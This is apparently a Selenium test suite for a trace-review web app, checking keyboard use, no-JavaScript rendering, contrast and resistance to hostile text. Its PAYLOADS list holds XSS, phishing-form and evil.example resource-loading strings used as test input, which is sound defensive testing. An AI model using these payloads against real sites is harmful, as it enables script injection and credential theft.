"""The reviewer's pages in a real browser: by keyboard, under attack, without JavaScript."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.remote.webdriver import WebDriver
from selenium.webdriver.support.wait import WebDriverWait

from proxy.store import queries, reviews
from tests.acceptance.test_hostile_text import PAYLOADS as hostile
from tests.acceptance.test_hostile_text import storable
from tests.proxy.review import documents
from tests.proxy.review.site import ADMIN_KEY, Site, served, site
from tests.proxy.review.test_routes import hostile_trace

pytestmark = pytest.mark.browser

WATCH = """
window.violations = [];
window.ran = [];
document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective + " " + e.blockedURI));
window.alert = (text) => window.ran.push(text);
window.addEventListener("error", (e) => window.ran.push("error: " + e.message));
"""
PAYLOADS = (
    "<script>alert('script')</script><img src=x onerror=\"alert('img')\"><svg onload=alert('svg')></svg>",
    "\" onmouseover=\"alert('attr')\" autofocus onfocus=alert('focus') x=\"' onclick='alert(1)",
    "<a href=\"javascript:alert('link')\">go</a> javascript:alert('bare') [x](javascript:alert('md'))",
    "</textarea></select></table></main><form action=https://evil.example><input name=key><button>Sign in</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<img src=https://evil.example/p.png> ![x](https://evil.example/p.png) {{ 7*7 }} {% raw %} &lt;b&gt;",
    *(text for name, text in hostile.items() if name != "long"),
    "\u202egnp.exe\u202c \u2066isolate\u2069 zero\u200bwidth \ufeffbom \U000e0041tag nul\0 half\ud800",
)


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The pages over a store with a morning's queue."""
    with site(tmp_path_factory.mktemp("site")) as found:
        assert found.store.write(documents.ordinary()) == []
        for run in documents.runs(documents.agent()["id"]):
            queries.save_run(found.store, run)
        yield found


@pytest.fixture(scope="module")
def base(pages: Site) -> Iterator[str]:
    """Where a real server serves them."""
    with served(pages.app) as address:
        yield address


@pytest.fixture
def signed_in(browser: WebDriver, base: str) -> WebDriver:
    """The browser, signed in, at the queue."""
    browser.delete_all_cookies()
    browser.get(f"{base}/review")
    browser.find_element(By.NAME, "key").send_keys(ADMIN_KEY, Keys.ENTER)
    arrived(browser, "/review")
    return browser


def arrived(browser: WebDriver, path: str) -> None:
    """Returns when the browser is at a path."""
    WebDriverWait(browser, 5, 0.03).until(lambda b: urlsplit(b.current_url).path == path)
    WebDriverWait(browser, 5, 0.03).until(
        lambda b: b.execute_script("return document.readyState") == "complete"
    )


def press(browser: WebDriver, *keys: str) -> None:
    """Type on whatever has the focus."""
    for key in keys:
        browser.switch_to.active_element.send_keys(key)


def focused(browser: WebDriver) -> str:
    """What has the focus: its id, or else its address."""
    element = browser.switch_to.active_element
    return str(element.get_attribute("id") or element.get_attribute("href"))


def test_a_trace_is_judged_by_keyboard_alone(signed_in: WebDriver, pages: Site, base: str) -> None:
    """j to the second line, Enter, 2 for the verdict, n for the note, Ctrl+Enter: it is kept and listed."""
    ids = [document["id"] for document in documents.ordinary()]
    press(signed_in, "j", "j", "k", "j")
    assert focused(signed_in) == f"{base}/review/traces/{ids[1]}"
    press(signed_in, Keys.ENTER)
    arrived(signed_in, f"/review/traces/{ids[1]}")

    press(signed_in, "2", "n")
    assert focused(signed_in) == "note"
    press(signed_in, "A refund was asked for; j and 3 are letters here.")
    signed_in.switch_to.active_element.send_keys(Keys.CONTROL, Keys.ENTER)
    # Saved, and on to the next one, which offers the way back and to undo it.
    arrived(signed_in, f"/review/traces/{ids[2]}")
    assert f"saved={ids[1]}." in signed_in.current_url
    signed_in.find_element(By.LINK_TEXT, "The trace before").click()
    arrived(signed_in, f"/review/traces/{ids[1]}")

    listed = signed_in.find_element(By.ID, "reviews").text
    assert "False positive" in listed and "j and 3 are letters here." in listed and "admin" in listed
    [review] = reviews.reviews(pages.store, ids[1])
    assert (review["verdict"], review["author"]) == ("false_positive", "admin")

    press(signed_in, "j")
    arrived(signed_in, f"/review/traces/{ids[2]}")
    press(signed_in, "k")
    arrived(signed_in, f"/review/traces/{ids[1]}")
    press(signed_in, "q")
    arrived(signed_in, "/review")


def test_keys_are_explained_and_can_be_turned_off(signed_in: WebDriver) -> None:
    """`/` goes to the filter, `?` opens the list of keys, and its switch turns single keys off for good."""
    press(signed_in, "/")
    assert focused(signed_in) == "filter"
    signed_in.execute_script("document.activeElement.blur()")
    press(signed_in, "?")
    dialog = signed_in.find_element(By.ID, "keys")
    assert dialog.is_displayed() and "Next trace" in dialog.text
    signed_in.find_element(By.ID, "keys-on").click()
    press(signed_in, Keys.ESCAPE)

    signed_in.refresh()
    press(signed_in, "j")
    assert signed_in.execute_script("return document.activeElement === document.body")
    signed_in.execute_script("localStorage.clear()")


def test_hostile_text_neither_runs_nor_calls_out(signed_in: WebDriver, pages: Site, base: str) -> None:
    """With attacks in every field: no violation of the policy, no script, no element of theirs, no request out."""
    traces = [
        hostile_trace(text) | {"id": f"{0xBAD0 + n:032x}", "started_us": n + 1}
        for n, text in enumerate(PAYLOADS)
    ]
    assert pages.store.write(traces) == []
    clean = [storable(text) for text in PAYLOADS]
    for trace, text in zip(traces, clean, strict=True):
        reviews.add_review(pages.store, trace["id"], reviews.NewReview("unsure", text, text))
    run = documents.run("hostile", suite=clean[0], items=[
        {"id": text, "repeat": 0, "output": {"text": text, "error": text, "trace_id": text, "verdict": text, "tool_calls": [{"name": text, "arguments": text}]}, "scores": {text: {"status": "unscored", "value": None, "reason": text}}}
        for text in clean
    ], summary={text: {"mean": text, "n": 1} for text in clean}, gate={"verdict": clean[0], "reason": clean[3], "metrics": [{"metric": clean[1], "verdict": clean[2], "reason": clean[4]}]})  # fmt: skip
    queries.save_run(pages.store, run)
    watcher = signed_in.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
    signed_in.get_log("performance")
    paths = [
        "/review?outcome=any",
        "/review/runs",
        "/review/runs/hostile",
        *(f"/review/traces/{t['id']}" for t in traces),
    ]
    try:
        for path in paths:
            signed_in.get(base + path)
            assert signed_in.execute_script("return [window.violations, window.ran]") == [[], []], path
            assert signed_in.execute_script(FOREIGN) == [], path
            assert urlsplit(signed_in.current_url).path == path.partition("?")[0]
        text = signed_in.find_element(By.TAG_NAME, "main").text
    finally:
        signed_in.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", watcher)
    assert "gnp.exe" in text
    assert signed_in.find_elements(By.CSS_SELECTOR, '.invisible[data-code="U+202E"]')
    assert outside(signed_in.get_log("performance"), base) == set()


FOREIGN = """
return [...document.querySelectorAll("img, iframe, object, embed, style, base, [style], script:not([src^='/review/static/']), "
  + "link:not([href^='/review/static/']), meta[http-equiv], a[href^='javascript'], form:not([action^='/review']):not([method=dialog])")]
  .concat([...document.querySelectorAll("main *")].filter((e) => [...e.attributes].some((a) => a.name.startsWith("on"))))
  .map((e) => e.outerHTML);
"""
"""Everything on the page that none of our templates would put there."""


def outside(log: list[dict[str, Any]], base: str) -> set[str]:
    """The addresses asked for that are not ours."""
    messages = (json.loads(entry["message"])["message"] for entry in log)
    asked = (m["params"]["request"]["url"] for m in messages if m["method"] == "Network.requestWillBeSent")
    return {url for url in asked if not url.startswith((base + "/", "data:", "chrome"))}


def test_without_javascript_the_pages_can_be_read(signed_in: WebDriver, base: str) -> None:
    """The queue, a trace and its form, and a run say all they have to say."""
    document = documents.ordinary()[1]
    signed_in.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": True})
    try:
        signed_in.get(f"{base}/review")
        signed_in.find_elements(By.CSS_SELECTOR, "a.open")[1].click()
        WebDriverWait(signed_in, 5, 0.03).until(lambda b: document["id"] in b.current_url)
        text = signed_in.find_element(By.TAG_NAME, "main").text
        assert "Your order NW-48213 is in transit" in text and "lookup_order" in text and "Findings 8" in text
        signed_in.find_element(By.CSS_SELECTOR, "#finding-1 label.true_positive").click()
        signed_in.find_element(By.CSS_SELECTOR, "#verdict button[value=stay]").send_keys(Keys.ENTER)
        WebDriverWait(signed_in, 5, 0.03).until(lambda b: f"saved={document['id']}." in b.current_url)
        assert "True positive" in signed_in.find_element(By.ID, "reviews").text
        assert not signed_in.find_element(By.ID, "show-keys").is_displayed()
    finally:
        signed_in.execute_cdp_cmd("Emulation.setScriptExecutionDisabled", {"value": False})


@pytest.mark.parametrize("width", [1280, 390])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_pages_fit_and_can_be_read_in_both_themes(
    signed_in: WebDriver, base: str, theme: str, width: int
) -> None:
    """No page is wider than the window, and every text has the contrast that WCAG AA asks for."""
    features = [{"name": "prefers-color-scheme", "value": theme}]
    signed_in.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": features})
    size = {"width": width, "height": 900, "deviceScaleFactor": 1, "mobile": width < 600}
    signed_in.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        for path in (
            "/review",
            f"/review/traces/{documents.agent()['id']}",
            "/review/runs",
            f"/review/runs/{documents.run()['id']}",
        ):
            signed_in.get(base + path)
            assert signed_in.execute_script("return document.documentElement.scrollWidth") <= width, path
            assert signed_in.execute_script(CONTRAST) == [], path
    finally:
        signed_in.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
        signed_in.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})


CONTRAST = Path(__file__).with_name("contrast.js").read_text(encoding="utf-8")
"""Lists the texts whose colour is too close to what is behind them."""


def test_the_overview_breaks_no_rule_of_its_own(signed_in: WebDriver, base: str) -> None:
    """Charts and tables under the strict policy, readable in both schemes; a table opens without a script of ours."""
    signed_in.get(f"{base}/review/overview?since=24h")
    arrived(signed_in, "/review/overview")

    assert signed_in.find_elements(By.CSS_SELECTOR, "svg.plot .column rect")
    signed_in.find_element(By.CSS_SELECTOR, ".chart summary").click()
    assert signed_in.find_element(By.CSS_SELECTOR, ".chart table").is_displayed()
    assert [
        entry for entry in signed_in.get_log("browser") if "Content Security Policy" in entry["message"]
    ] == []
